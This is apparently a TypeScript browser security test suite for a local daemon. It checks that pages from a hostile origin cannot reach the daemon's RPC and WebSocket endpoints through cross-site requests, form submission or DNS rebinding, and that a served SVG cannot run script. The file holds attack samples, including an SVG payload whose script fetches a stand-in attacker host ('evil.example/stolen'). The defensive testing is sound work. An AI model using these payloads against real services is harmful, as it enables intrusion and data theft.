import { mkdir, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { browserPath, QUIET } from '../support/browser.ts'
import { type MemoryServer, memoryServer, TOKEN } from '../support/memory-server.ts'

const SUBMIT = JSON.stringify({
  jsonrpc: '2.0',
  id: 1,
  method: 'job.submit',
  params: { task: 'pattern', params: { pattern: 'spiral' } },
})

let daemon: MemoryServer
let evil: Server
let evilUrl: string
let browser: Browser
/** Requests of the hostile script and image that reached the attacker's own server. */
const stolen: string[] = []
beforeAll(async () => {
  daemon = await memoryServer()
  evil = createServer((request, response) => {
    if (/^\/(stolen|pixel)/.test(request.url ?? '')) stolen.push(request.url ?? '')
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>evil</title>')
  })
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
  evilUrl = `http://evil.example:${(evil.address() as AddressInfo).port}`
  if (browserPath === undefined)
    throw new Error('no Chromium: apt-get install chromium-headless-shell, or set CHROMIUM')
  const rules = '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1'
  // The test switches off Chromium's block of requests to local addresses, because other browsers have no such block.
  const bare = '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests'
  browser = await chromium.launch({ executablePath: browserPath, args: [...QUIET, rules, bare], timeout: 0 })
})
afterAll(async () => {
  await browser.close()
  evil.close()
  await daemon.close()
})

const jobs = async () => (await daemon.spool.list()).total

/** A page that shares nothing with other pages. */
async function newPage(): Promise<Page> {
  const page = await browser.newPage()
  page.setDefaultTimeout(0) // the test's own time limit is enough
  return page
}

async function inPage(url: string, run: (page: Page) => Promise<void>): Promise<void> {
  const page = await newPage()
  try {
    await page.goto(url)
    await run(page)
  } finally {
    await page.close()
  }
}

/** Dials from the page. @returns 'open' or 'refused' */
const dial = (page: Page, url: string, token: string) =>
  page.evaluate(
    `new Promise((resolve) => {
      const socket = new WebSocket(${JSON.stringify(url)}, ['plotd', 'plotd.token.' + ${JSON.stringify(token)}])
      socket.onopen = () => resolve('open')
      socket.onerror = () => resolve('refused')
    })`,
  )

/** Fetches from the page. @returns the part of the answer that a script can read */
const read = (page: Page, url: string, init: object = {}) =>
  page.evaluate(
    `fetch(${JSON.stringify(url)}, ${JSON.stringify(init)}).then(
      async (answer) => answer.type + ' ' + answer.status + ' ' + (await answer.text()),
      () => 'nothing')`,
  ) as Promise<string>

const post = { method: 'POST', body: SUBMIT }
const json = { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` }

describe('a page of another site, in a browser', () => {
  it('can open no WebSocket, even with the token', async () => {
    await inPage(evilUrl, async (page) => {
      expect(await dial(page, `ws://127.0.0.1:${daemon.port}/v1`, TOKEN)).toBe('refused')
      expect(await dial(page, `ws://localhost:${daemon.port}/v1`, TOKEN)).toBe('refused')
    })
    const client = await daemon.client() // the same address, from a program
    client.close()
  })

  it('can make no call by fetch, because the daemon refuses simple requests and preflights', async () => {
    const before = await jobs()
    await inPage(evilUrl, async (page) => {
      const simple = { ...post, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }
      expect(await read(page, `${daemon.url}/rpc`, simple)).toBe('opaque 0 ')
      expect(await read(page, `${daemon.url}/rpc`, { ...post, headers: json })).toBe('nothing')
      expect(await read(page, `${daemon.url}/healthz`)).toBe('nothing')
    })
    expect(await jobs()).toBe(before)
  })

  it('can submit no job by a form', async () => {
    const before = await jobs()
    await inPage(evilUrl, async (page) => {
      const sent = page.waitForResponse((response) => response.url() === `${daemon.url}/rpc`)
      await page.evaluate(`
        document.body.innerHTML = '<form method=post enctype=text/plain action="${daemon.url}/rpc"><input name=x></form>'
        document.querySelector('input').name = ${JSON.stringify(SUBMIT)}
        document.querySelector('form').submit()`)
      expect((await sent).status()).toBe(403)
    })
    expect(await jobs()).toBe(before)
  })

  it('is refused under a name that DNS points to this machine', async () => {
    const rebound = `http://rebound.example:${daemon.port}`
    const page = await newPage()
    // The attacker served the page before the name was rebound. The page's further requests reach the daemon.
    await page.route(`${rebound}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html>' }))
    await page.goto(`${rebound}/`)
    expect(await read(page, '/rpc', { ...post, headers: json })).toMatch(/^basic 403 .*ERR_FORBIDDEN/)
    expect(await read(page, '/healthz')).toMatch(/^basic 403/)
    expect(await dial(page, `ws://rebound.example:${daemon.port}/v1`, TOKEN)).toBe('refused')
    await page.close()
  })
})

describe('an SVG that carries a script, opened as a page', () => {
  it('runs no script and requests nothing from the server of the attacker', async () => {
    await mkdir(daemon.config.output, { recursive: true })
    const script = `document.title = 'ran'; fetch('${evilUrl}/stolen')`
    const image = `<image href="${evilUrl}/pixel.png" width="1" height="1"/>`
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9mm" height="9mm"><title>calm</title>${image}
      <script>${script}</script></svg>`
    await writeFile(join(daemon.config.output, 'hostile.svg'), svg)
    const context = await browser.newContext({ extraHTTPHeaders: { authorization: `Bearer ${TOKEN}` } })
    context.setDefaultTimeout(0)
    const page = await context.newPage()
    const response = await page.goto(`${daemon.url}/output/hostile.svg`)
    expect(response?.status()).toBe(200)
    await page.waitForLoadState('networkidle')
    expect(await page.title()).toBe('calm')
    expect(await page.locator('svg').count()).toBe(1)
    expect(stolen).toEqual([])
    await context.close()
  })
})
